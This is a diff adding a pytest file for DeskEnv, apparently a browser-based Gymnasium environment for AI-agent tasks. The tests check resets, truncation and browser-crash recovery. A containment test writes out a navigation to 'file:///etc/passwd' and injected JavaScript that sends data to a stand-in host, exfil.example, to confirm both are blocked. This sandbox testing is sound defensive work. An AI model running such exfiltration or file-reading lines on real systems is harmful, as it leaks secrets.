@@ -1,0 +1,182 @@
+"""DeskEnv in a real browser: the Gymnasium contract, resets that leave nothing
+behind, containment, a browser that dies, and a fuzzing agent."""
+from __future__ import annotations
+
+import asyncio
+import json
+
+import gymnasium as gym
+import numpy as np
+import pytest
+from gymnasium.utils.env_checker import check_env
+
+import harness
+from harness.agents import make
+from harness.env import DeskEnv, ResetNeeded
+from harness.runner import run_episode
+from harness.tasks.registry import load_task
+
+pytestmark = pytest.mark.browser
+
+TASK = "meridian/gross-tonnage"
+
+
+@pytest.fixture(scope="module")
+def env():
+    e = DeskEnv(TASK)
+    yield e
+    e.close()
+
+
+def test_registered_env_passes_check_env():
+    env = gym.make(harness.ENV_ID, task=TASK)
+    try:
+        check_env(env.unwrapped)
+        assert env.spec.nondeterministic is False
+    finally:
+        env.close()
+    env.close()                                   # idempotent
+
+
+def test_observation_action_reward_and_episode_end(env):
+    with pytest.raises(ResetNeeded):
+        DeskEnv(TASK).step({"type": "wait", "ms": 0})
+    obs, info = env.reset(seed=0)
+    assert obs["screenshot"].shape == (800, 1280, 3) and obs["screenshot"].dtype == np.uint8
+    assert obs["url"] == "http://desk.local/drive/my-drive" and obs["goal"].startswith("What is the gross tonnage")
+    assert obs in env.observation_space and info == {"step": 0, "task": TASK, "status": "ok"}
+    obs, r, term, trunc, info = env.step("{not json")
+    assert "not valid JSON" in obs["last_action_error"] and (r, term, trunc) == (0.0, False, False)
+    obs, r, term, trunc, info = env.step({"type": "click", "x": 2000, "y": 10})
+    assert "outside the screen" in obs["last_action_error"] and info["step"] == 2
+    obs, r, term, trunc, info = env.step({"type": "done", "answer": "ANSWER: 58,400"})
+    assert term and not trunc and r == 1.0 and info["result"]["passed"]
+    with pytest.raises(ResetNeeded):
+        env.step({"type": "wait", "ms": 0})
+
+
+def test_truncation_runs_the_verifier(env):
+    env.reset(options={"task": load_task(TASK)})
+    env._max_steps_override = 2
+    try:
+        env.step({"type": "wait", "ms": 0})
+        obs, r, term, trunc, info = env.step({"type": "wait", "ms": 0})
+        assert trunc and not term and info["result"]["status"] == "failed"
+    finally:
+        env._max_steps_override = None
+
+
+def test_same_state_same_pixels(env):
+    a, _ = env.reset(seed=1)
+    b, _ = env.reset(seed=2)
+    assert np.array_equal(a["screenshot"], b["screenshot"])
+    env.step({"type": "click", "x": 90, "y": 192})            # Shared with me
+    c, *_ = env.step({"type": "wait", "ms": 0})
+    env.reset()
+    env.step({"type": "click", "x": 90, "y": 192})
+    d, *_ = env.step({"type": "wait", "ms": 0})
+    assert c["url"].endswith("/drive/shared") and np.array_equal(c["screenshot"], d["screenshot"])
+
+
+def test_reset_leaves_nothing_behind(env):
+    u = env.unwrapped
+    env.reset(options={"task": load_task("meridian/send-survey-to-pryce")})
+    # Marks everywhere: storage, an extra cookie, history, a saved draft, and a pending autosave.
+    u.page_call(lambda p: p.evaluate("() => { localStorage.setItem('mark', '1'); sessionStorage.setItem('mark', '1'); }"))
+    u.page_call(lambda p: p.context.add_cookies([{"name": "mark", "value": "1", "url": p.url}]))
+    env.step({"type": "navigate", "url": "/drive/my-drive"})
+    env.step({"type": "navigate", "url": "/mail/inbox"})
+    box = u.page_call(lambda p: p.get_by_role("button", name="Compose").bounding_box())
+    env.step({"type": "click", "x": int(box["x"] + 20), "y": int(box["y"] + 20)})
+    env.step({"type": "type", "text": "draft that must not survive"})
+    body = u.page_call(lambda p: p.get_by_label("Message Body").bounding_box())
+    env.step({"type": "click", "x": int(body["x"] + 50), "y": int(body["y"] + 20)})
+    u.page_call(lambda p: p.keyboard.type("pending autosave"))          # typed, autosave not yet fired
+    with u._runner.current.slot.store() as st:
+        assert st.scalar("SELECT count(*) FROM mail_drafts WHERE owner='alex.chen'") >= 1
+    obs, _ = env.reset(options={"task": load_task("meridian/send-survey-to-pryce")})
+    state = u.page_call(lambda p: p.evaluate(
+        "() => [localStorage.length, sessionStorage.length, history.length, document.cookie]"))
+    assert state[:3] == [0, 0, 1], state
+    cookies = u.page_call(lambda p: p.context.cookies())
+    assert [c["name"] for c in cookies] == ["deskworld_session"]
+    u.page_call(lambda p: p.wait_for_timeout(1500))                    # any late autosave would land now
+    with u._runner.current.slot.store() as st:
+        assert st.scalar("SELECT count(*) FROM mail_drafts WHERE owner='alex.chen'") == 0
+        from apps.common.store.export import export
+        assert export(st) == u._runner.current.initial
+    assert obs["url"] == "http://desk.local/mail/inbox"
+
+
+def test_off_origin_is_blocked_and_reported(env):
+    env.reset(options={"task": load_task(TASK)})
+    for url in ("https://example.com/", "file:///etc/passwd", "chrome://settings", "http://127.0.0.1:9/x",
+                "javascript:alert(1)"):
+        obs, *_ = env.step({"type": "navigate", "url": url})
+        assert "not allowed" in obs["last_action_error"], url
+        assert obs["url"].startswith("http://desk.local/")
+    # The page itself trying to leave (or to send data out) is stopped too.
+    env.unwrapped.page_call(lambda p: p.evaluate("() => { location.href = 'http://exfil.example/?d=secret'; }"))
+    obs, *_ = env.step({"type": "wait", "ms": 0})
+    assert "blocked" in obs["last_action_error"] and obs["url"].startswith("http://desk.local/")
+    env.unwrapped.page_call(lambda p: p.evaluate("() => { fetch('http://exfil.example/x').catch(() => 0); }"))
+    obs, *_ = env.step({"type": "wait", "ms": 100})
+    assert "blocked" in obs["last_action_error"]
+    obs, *_ = env.step({"type": "navigate", "url": "http://desk.local/mail/inbox"})
+    assert obs["last_action_error"] == "" and obs["url"] == "http://desk.local/mail/inbox"
+
+
+def test_optional_axtree_and_set_of_marks():
+    with DeskEnv(TASK, axtree=True, som=True) as e:
+        obs, _ = e.reset()
+        assert obs in e.observation_space
+        assert 'link "Shared with me"' in obs["axtree"]
+        assert "Shared with me" in obs["som"]["elements"]
+        assert obs["som"]["image"].shape == (800, 1280, 3)
+        assert not np.array_equal(obs["som"]["image"], obs["screenshot"])
+
+
+def test_env_works_inside_a_running_asyncio_loop():
+    async def main():
+        loop = asyncio.get_running_loop()
+        assert loop.is_running()
+        with DeskEnv(TASK) as e:
+            obs, _ = e.reset()
+            obs, r, term, *_ = e.step({"type": "done", "answer": "58400"})
+            return obs["url"], r, term
+    assert asyncio.run(main()) == ("http://desk.local/drive/my-drive", 1.0, True)
+
+
+def test_a_killed_browser_ends_the_episode_as_error_and_the_env_recovers():
+    e = DeskEnv(TASK)
+    try:
+        e.reset()
+        e._worker.call(lambda: e._worker.browser.close())             # the browser dies mid-episode
+        obs, r, term, trunc, info = e.step({"type": "click", "x": 90, "y": 192})
+        assert info["status"] == "error" and trunc and r == 0.0
+        assert info["result"]["status"] == "error"
+        row = run_episode(e, make("oracle", env=e), load_task(TASK))  # the next episode is fine
+        assert row["status"] == "passed"
+    finally:
+        e.close()
+
+
+def test_random_agent_300_steps_causes_no_errors():
+    task = load_task("meridian/send-survey-to-pryce")
+    with DeskEnv(task, max_steps=300) as e:
+        agent = make("random", seed=7)
+        agent.reset(task)
+        obs, _ = e.reset()
+        statuses, steps = set(), 0
+        while True:
+            obs, r, term, trunc, info = e.step(agent.act(obs))
+            steps += 1
+            statuses.add(info["status"])
+            if term or trunc:
+                break
+        assert steps == 300 and statuses == {"ok"}, (steps, statuses, info.get("error"))
+        assert info["result"]["status"] in ("passed", "failed")
+        server = e._runner.current.server.url
+        for path in ("/mail/inbox", "/drive/my-drive"):
+            assert e.page_call(lambda p: p.goto(server + path).status) == 200
+    assert json.dumps(info["result"])
